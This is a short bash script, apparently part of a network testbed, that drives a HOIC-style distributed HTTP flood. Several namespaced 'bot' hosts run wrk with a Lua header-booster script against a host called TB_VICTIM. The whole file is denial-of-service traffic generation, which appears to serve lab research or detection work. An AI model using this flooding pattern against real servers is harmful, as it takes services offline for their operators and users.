#!/usr/bin/env bash
# HOIC-style HTTP flood from several hosts (wrk + httpflood.lua "booster" headers), TB_COUNT requests.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
read -ra bots <<< "$TB_BOTS"
hosts=("$TB_NS" "${bots[@]}")
per=$(( TB_COUNT / ${#hosts[@]} )); [ "$per" -ge 1 ] || per=1
for h in "${hosts[@]}"; do
  tb_bg "$h" env TB_WRK_THREADS=1 wrk -t 1 -c 16 -d "${TB_SECONDS}s" --timeout 5s -s "$TB_LIB/httpflood.lua" \
    "http://$TB_VICTIM/" -- hoic "$TB_SEED" "$per" > /dev/null 2>&1
done
wait
